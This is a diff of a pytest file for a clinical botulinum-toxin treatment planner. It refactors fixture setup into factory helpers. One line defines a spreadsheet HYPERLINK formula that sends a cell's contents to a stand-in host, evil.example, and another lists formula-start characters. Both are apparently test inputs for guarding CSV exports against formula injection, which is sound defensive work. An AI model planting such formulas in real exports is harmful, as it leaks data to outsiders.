@@ -7,8 +7,6 @@ from datetime import date
 from datetime import datetime
 from datetime import timedelta
 from decimal import Decimal
-from pathlib import Path
-from zoneinfo import ZoneInfo
 
 import pytest
 from sqlmodel import col
@@ -16,8 +14,6 @@ from sqlmodel import select
 
 from planner.db import get_engine
 from planner.demo import seed_demo
-from planner.facemap import load_face_map
-from planner.facemap import reference_points
 from planner.interop.research_csv import FILES
 from planner.interop.research_csv import FILES_BY_NAME
 from planner.interop.research_csv_cells import pseudonym
@@ -34,33 +30,21 @@ from planner.models import SessionStatus
 from planner.models import TreatmentSession
 from planner.models import User
 from planner.models import VialLot
-from planner.services import chart as chart_service
 from planner.services import outcomes as outcome_service
 from planner.services import sessions as session_service
 from planner.services.audit import Actor
-from planner.services.chart_state import chart_state
-from planner.services.chart_state import default_units
 from planner.services.research_export import export_csv
 from tests.conftest import Browser
+from tests.factories import FACE_MAP
+from tests.factories import ZONE
+from tests.factories import make_assessment
+from tests.factories import make_treatment
 
-ZONE = ZoneInfo("Europe/London")
-FACE_MAP = load_face_map(Path(__file__).resolve().parents[2] / "face_maps")
 NOW = datetime(2026, 6, 15, 10, 0, tzinfo=UTC)
 KEY = b"test"  # the app fixture's SECRET_KEY
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 SIDES = {"right": "R", "left": "L", "midline": "M"}
-
-
-def point(muscle, side):
-    x, y = reference_points(FACE_MAP, FACE_MAP.muscle(muscle), side)[0]
-    return float(x), float(y)
-
-
-@pytest.fixture
-def injector(make_user):
-    user = make_user(Role.INJECTOR)
-    return Actor(user.id, user.email)
 
 
 @pytest.fixture
@@ -82,54 +66,23 @@ def clinic(app, session, make_patient, injector):
         onset_date=date(2019, 8, 2),
         affected_side="left",
     )
-    record = session_service.open_session(
+    treatment = make_treatment(
         session,
         injector,
         patient.id,
-        {
-            "kind": "full",
-            "product": "botox",
-            "lot_choice": "new",
-            # A lot number may start with "-": a spreadsheet would read a formula.
-            "lot_number": "-C77/B",
-            "expiry_date": "2027-06-30",
-            "vial_units": 100,
-            "diluent_ml": 2.5,
-            "reconstituted_at": NOW.isoformat(),
-            "consent_obtained": "true",
-        },
-        zone=ZONE,
-        now=NOW,
+        (
+            ("mentalis", "left", 2.5),
+            ("frontalis", "right", 1.25),
+            ("procerus", "midline", 4),
+        ),
+        when=NOW,
+        sign=True,
+        reason="Discussed",
+        reason_for_every_warning=False,
+        # A lot number may start with "-": a spreadsheet would read a formula.
+        lot_number="-C77/B",
     )
-    version = 1
-    sites = []
-    for muscle, side, units in (
-        ("mentalis", "left", 2.5),
-        ("frontalis", "right", 1.25),
-        ("procerus", "midline", 4),
-    ):
-        x, y = point(muscle, side)
-        version, site = chart_service.add_site(
-            session,
-            injector,
-            record.id,
-            {"x": x, "y": y, "version": version, "units": units},
-            face_map=FACE_MAP,
-            default_units=default_units(session),
-            now=NOW,
-        )
-        sites.append(site)
-    state = chart_state(session, record.id, face_map=FACE_MAP, zone=ZONE, now=NOW)
-    reasons = {w["key"]: "Discussed" for w in state["warnings"] if w["needs_reason"]}
-    session_service.sign_session(
-        session,
-        injector,
-        record.id,
-        {"version": version, "consent_obtained": True, "reasons": reasons},
-        warnings=state["warnings"],
-        zone=ZONE,
-        now=NOW,
-    )
+    record, sites = treatment.record, treatment.sites
     session_service.amend_session(
         session,
         injector,
@@ -164,47 +117,28 @@ def clinic(app, session, make_patient, injector):
         ("house_brackmann", {"grade": 3}, False),
         ("saq", {f"q{n}": 1 + n % 5 for n in range(1, 10)}, True),
     ):
-        outcome_service.record_assessment(
+        make_assessment(
             session,
             injector,
             patient.id,
             instrument,
             items,
-            timepoint="review",
-            zone=ZONE,
+            when=NOW + timedelta(days=14),
             self_entered=self_entered,
-            now=NOW + timedelta(days=14),
         )
     # A second chart, left as a draft.
-    session_service.open_session(
+    make_treatment(
         session,
         injector,
         patient.id,
-        {
-            "kind": "full",
-            "product": "botox",
-            "lot_choice": "new",
-            "lot_number": "D1",
-            "expiry_date": "2027-06-30",
-            "vial_units": 100,
-            "diluent_ml": 1.0,
-            "consent_obtained": "true",
-        },
-        zone=ZONE,
-        now=NOW + timedelta(days=100),
+        when=NOW + timedelta(days=100),
+        lot_number="D1",
+        diluent_ml=1.0,
+        reconstituted_at=None,
     )
     # A baseline before any treatment belongs to no cycle.
     newcomer = make_patient(sex="male", date_of_birth=date(2001, 2, 28))
-    outcome_service.record_assessment(
-        session,
-        injector,
-        newcomer.id,
-        "house_brackmann",
-        {"grade": 2},
-        timepoint="baseline",
-        zone=ZONE,
-        now=NOW,
-    )
+    make_assessment(session, injector, newcomer.id, timepoint="baseline", when=NOW)
     session.expire_all()
     return patient, record
 
